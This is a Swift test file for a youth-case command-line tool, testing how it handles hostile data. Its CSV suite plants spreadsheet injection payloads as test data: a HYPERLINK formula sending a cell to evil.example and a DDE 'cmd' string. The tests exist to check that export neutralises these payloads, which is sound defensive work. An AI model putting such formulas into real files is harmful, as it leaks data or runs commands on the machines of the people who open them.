import Foundation
import Testing

/// Issue 28: data a damaged file, a hostile member or a slip of the keyboard can put in the data
/// directory, and writes that would make a youth unreadable. Each runs the real binary, so a Swift
/// trap shows as exit 132 and fails the test instead of the test run. (`TAVLE_BIN` runs them
/// against another build, e.g. one from before the fixes.)
@Suite("hostile data")
struct HostileDataTests {
    /// Replaces the first `"key" : value` in a pretty-printed file.
    func plant(_ path: String, _ key: String, _ value: String) throws {
        let text = try String(contentsOfFile: path, encoding: .utf8)
        let regex = try NSRegularExpression(pattern: "\"\(key)\" : [^,\\n]+")
        let range = try #require(regex.firstMatch(in: text, range: NSRange(text.startIndex..., in: text))?.range)
        let out = (text as NSString).replacingCharacters(in: range, with: "\"\(key)\" : \(value)")
        try out.write(toFile: path, atomically: false, encoding: .utf8)
    }

    func expectBadFile(_ r: CLI.Result, _ file: String, _ field: String, sourceLocation: SourceLocation = #_sourceLocation) {
        #expect(r.status == 2, "exit \(r.status) (132 is a Swift trap): \(r.err.prefix(300))", sourceLocation: sourceLocation)
        #expect(r.err.contains(file) && r.err.contains(field), "names the file and the field: \(r.err.prefix(300))",
                sourceLocation: sourceLocation)
    }

    // Finding 3: one number in team.json crashed list, due, stats and the board.
    @Test("a board share of 1e308 in team.json: a bad file named, not a trap", arguments: ["list", "due", "stats", "board"])
    func hugeShare(_ command: String) throws {
        let s = Scratch()
        try demoTeam(s)
        try plant(s.data + "/team.json", "targetBoardShare", "1e308")
        expectBadFile(try CLI.run([command, "--data", s.data, "--lang", "en"]), "team.json", "targetBoardShare")
    }

    @Test("rules.boardPeriodDays and meetingMinutes of Int64.max: a bad file named, not a trap")
    func hugeSettings() throws {
        for (key, value) in [("boardPeriodDays", "9223372036854775807"), ("meetingMinutes", "9223372036854775807"),
                             ("retentionMonths", "-1"), ("boardShareWarning", "-0.5")] {
            let s = Scratch()
            try demoTeam(s)
            try plant(s.data + "/team.json", key, value)
            expectBadFile(try CLI.run(["list", "--data", s.data, "--lang", "en"]), "team.json", key)
            expectBadFile(try CLI.run(["intensive", "thea", "--reason", "crisis", "--data", s.data, "--lang", "en"]), "team.json", key)
            expectBadFile(try CLI.run(["meeting", "status", "--data", s.data, "--lang", "en"]), "team.json", key)
        }
    }

    @Test("a youth's version of Int64.max: named as bad, every write to it refused without a trap")
    func hugeVersion() throws {
        let s = Scratch()
        try demoTeam(s)
        let file = s.data + "/youths/sofie.json"
        try plant(file, "version", "9223372036854775807")
        let before = try Data(contentsOf: URL(fileURLWithPath: file))
        expectBadFile(try CLI.run(["note", "sofie", "x", "--data", s.data, "--lang", "en"]), "sofie.json", "version")
        expectBadFile(try CLI.run(["show", "sofie", "--data", s.data, "--lang", "en"]), "sofie.json", "version")
        let list = try CLI.run(["list", "--json", "--data", s.data, "--lang", "en"])
        #expect(list.status == 0 && list.err.contains("sofie.json"), "\(list.err)")
        #expect(try Data(contentsOf: URL(fileURLWithPath: file)) == before, "never written back")
        let check = try CLI.run(["check", "--data", s.data, "--lang", "en"])
        #expect(check.status == 2 && check.out.contains("sofie.json"), "\(check)")
    }

    @Test("a meeting's time box of Int64.max: meeting status names the meeting file, no trap")
    func hugeMeetingMinutes() throws {
        let s = Scratch()
        try demoTeam(s)
        let start = try CLI.run(["meeting", "start", "--data", s.data, "--lang", "en"])
        #expect(start.status == 0, "\(start)")
        let file = s.data + "/meetings/2026-11-22.json"
        try plant(file, "minutes", "9223372036854775807")
        expectBadFile(try CLI.run(["meeting", "status", "--data", s.data, "--lang", "en"]), "2026-11-22.json", "minutes")
        // Seconds a user types are bounded too: a sum of two huge ones must not overflow.
        let discuss = try CLI.run(["meeting", "discuss", "sofie", "--seconds", "9223372036854775807", "--data", s.data, "--lang", "en"])
        #expect(discuss.status == 1 || discuss.status == 2, "\(discuss)")
    }

    // Finding 7: a note that would take the youth's file past the 16 MiB every reader accepts is
    // refused before anything is written, so the youth stays readable.
    @Test("a note that would cross the 16 MiB file limit is refused; the youth stays readable")
    func sizeLimit() throws {
        let s = Scratch()
        try demoTeam(s)
        let file = s.data + "/youths/thea.json"
        // Plant one large note so the file ends just under the limit (the journal does not
        // matter here), then add notes of 120 KB (an argument holds at most 128 KiB).
        var youth = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: file))) as? [String: Any])
        var notes = youth["notes"] as? [[String: Any]] ?? []
        let current = try Data(contentsOf: URL(fileURLWithPath: file)).count
        notes.append(["id": "big", "at": "2026-11-20T10:00:00+01:00", "author": "ole", "kind": "note",
                      "text": String(repeating: "y", count: 16 * 1024 * 1024 - current - 200_000)])
        youth["notes"] = notes
        try JSONSerialization.data(withJSONObject: youth, options: [.prettyPrinted, .sortedKeys]).write(to: URL(fileURLWithPath: file))
        let chunk = String(repeating: "x", count: 120_000)
        var refused = false
        for _ in 0..<4 {
            let before = try Data(contentsOf: URL(fileURLWithPath: file))
            let journal = journalLines(s)
            let r = try CLI.run(["note", "thea", chunk, "--data", s.data, "--lang", "en"])
            if r.status == 0 { continue }
            #expect(r.status == 2, "\(r)")
            #expect(r.err.contains("thea.json") && r.err.contains("Nothing was changed"), "\(r.err)")
            #expect(try Data(contentsOf: URL(fileURLWithPath: file)) == before)
            #expect(journalLines(s) == journal)
            refused = true
            break
        }
        #expect(refused, "a note past the limit was accepted")
        let show = try CLI.run(["show", "thea", "--data", s.data])
        #expect(show.status == 0, "the youth is still readable: \(show.err)")
        let list = try listJSON(s)
        #expect(list.contains { $0["id"] as? String == "thea" }, "still on the board")
    }
}

/// Issue 28, finding 8: CSV export must not hand a spreadsheet a live formula (CWE-1236).
@Suite("CSV formulas")
struct CSVFormulaTests {
    static let evilName = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klikk\") Hansen"
    static let evilWarning = "+cmd|' /C calc'!A0"

    /// Every cell of a `;`- or `,`-separated CSV (quoted fields may hold separators and quotes).
    func cells(_ csv: String, separator: Unicode.Scalar) -> [String] {
        var out: [String] = [], cell = "", quoted = false, inQuotes = false
        var chars = Array(csv.unicodeScalars)[...]
        while let c = chars.popFirst() {
            if inQuotes {
                if c == "\"" {
                    if chars.first == "\"" { cell.unicodeScalars.append("\""); chars.removeFirst() } else { inQuotes = false }
                } else { cell.unicodeScalars.append(c) }
            } else if c == "\"" && cell.isEmpty && !quoted {
                inQuotes = true; quoted = true
            } else if c == separator || c == "\r" {
                out.append(cell); cell = ""; quoted = false
            } else if c == "\n" {
                cell = ""; quoted = false
            } else { cell.unicodeScalars.append(c) }
        }
        return out
    }

    @Test("a name, warning and label that start a formula are exported as text", arguments: ["nb", "en"])
    func neutralised(_ lang: String) throws {
        let s = Scratch()
        try demoTeam(s)
        let add = try CLI.run(["add", "--name", Self.evilName, "--born", "2010-01-01", "--data", s.data])
        #expect(add.status == 0, "\(add)")
        let id = add.out.trimmingCharacters(in: .whitespacesAndNewlines)
        #expect(try CLI.run(["set", id, "warning", Self.evilWarning, "--data", s.data]).status == 0)
        #expect(try CLI.run(["--data", s.data, "set", "sofie", "warning", "--", "-2+3"]).status == 0)
        #expect(try CLI.run(["set", "noah", "warning", "@SUM(1,2)", "--data", s.data]).status == 0)
        for names in [true, false] {
            let r = try CLI.run(["export", "--format", "csv", "--data", s.data, "--lang", lang] + (names ? ["--names"] : []))
            #expect(r.status == 0, "\(r)")
            let all = cells(r.out, separator: lang == "nb" ? ";" : ",")
            #expect(all.count > 100)
            let live = all.filter { $0.first.map { "=+-@\t\r".contains($0) } ?? false }
            #expect(live.isEmpty, "cells a spreadsheet would run: \(live)")
            #expect(all.contains("'" + Self.evilWarning), "the text is kept, behind a quote")
            if names { #expect(all.contains("'" + Self.evilName)) }
        }
    }

    @Test("an export with --names imports again with the names as they were")
    func roundTrip() throws {
        let s = Scratch()
        try demoTeam(s)
        let add = try CLI.run(["add", "--name", Self.evilName, "--born", "2010-01-01", "--data", s.data])
        let id = add.out.trimmingCharacters(in: .whitespacesAndNewlines)
        #expect(try CLI.run(["set", id, "warning", Self.evilWarning, "--data", s.data]).status == 0)
        let r = try CLI.run(["export", "--format", "csv", "--names", "--data", s.data])
        let file = try s.write("board.csv", r.out)
        let other = Scratch()
        try emptyTeam(other)
        let staff = try CLI.run(["staff", "list", "--json", "--data", s.data]).jsonArray()
        for m in staff where m["role"] as? String != "leader" {
            _ = try CLI.run(["staff", "add", "--name", m["name"] as! String, "--initials", m["initials"] as! String,
                             "--role", m["role"] as! String, "--data", other.data])
        }
        let imp = try CLI.run(["import", file, "--data", other.data, "--lang", "en"])
        #expect(imp.status == 0, "\(imp)")
        let listed = try listJSON(other)
        let y = try #require(listed.first { ($0["name"] as? String) == Self.evilName }, "\(listed.map { $0["name"] ?? "" })")
        #expect(y["warning"] as? String == Self.evilWarning)
    }
}

/// Issue 28, finding 11: `--shared` (initials only, no note text) was accepted and ignored
/// outside the board: `tavle --shared list` printed full names, `--shared show` notes.
@Suite("--shared outside the board")
struct SharedOutsideBoardTests {
    @Test("every command but the board refuses --shared (exit 1), printing no name and writing nothing",
          arguments: [["--shared", "list"], ["list", "--shared"], ["--shared", "list", "--json"], ["--shared", "due"],
                      ["--shared", "today"], ["--shared", "show", "sofie"], ["--shared", "export", "--format", "csv", "--names"],
                      ["--shared", "log"], ["--shared", "stats"], ["note", "--shared", "sofie", "skrevet fra møterommet"]])
    func refused(_ args: [String]) throws {
        let s = Scratch()
        try demoTeam(s)
        let lines = journalLines(s)
        let r = try CLI.run(["--data", s.data, "--lang", "en"] + args)
        #expect(r.status == 1, "\(r)")
        #expect(r.err.contains("--shared"), "\(r.err)")
        #expect(!r.out.contains("Sofie Bakke") && !r.err.contains("Sofie Bakke"), "no full name: \(r.out.prefix(200))")
        #expect(journalLines(s) == lines, "nothing written")
    }

    @Test("the board honours it: initials only")
    func board() throws {
        let s = Scratch()
        try demoTeam(s)
        for args in [["--shared"], ["board", "--shared"], ["--shared", "board"]] {
            let r = try CLI.run(["--data", s.data] + args)
            #expect(r.status == 0, "\(r)")
            #expect(r.out.contains("SB") && !r.out.contains("Sofie Bakke"), "\(r.out.prefix(300))")
        }
    }
}

/// Issue 28, finding 14 (last part): a clock behind the meeting's start gave negative elapsed
/// time ("75:00 left" of a 15-minute time box).
@Suite("meeting clock")
struct MeetingClockTests {
    @Test("a clock behind the start: nothing elapsed, never more left than the time box")
    func clockBehindTheStart() throws {
        let s = Scratch()
        try demoTeam(s)
        let start = try CLI.run(["meeting", "start", "--minutes", "15", "--data", s.data], env: ["TAVLE_NOW": "2026-11-22T09:00:00+01:00"])
        #expect(start.status == 0, "\(start)")
        let r = try CLI.run(["meeting", "status", "--json", "--data", s.data, "--lang", "en"], env: ["TAVLE_NOW": "2026-11-22T08:00:00+01:00"])
        #expect(r.status == 0, "\(r)")
        let time = try #require(try r.jsonObject()["time"] as? [String: Any])
        #expect(time["elapsed"] as? Int == 0, "\(time)")
        #expect(time["remaining"] as? Int == 900, "\(time)")
        let text = try CLI.run(["meeting", "status", "--data", s.data, "--lang", "en"], env: ["TAVLE_NOW": "2026-11-22T08:00:00+01:00"])
        #expect(!text.out.contains("75:00"), "\(text.out)")
    }
}
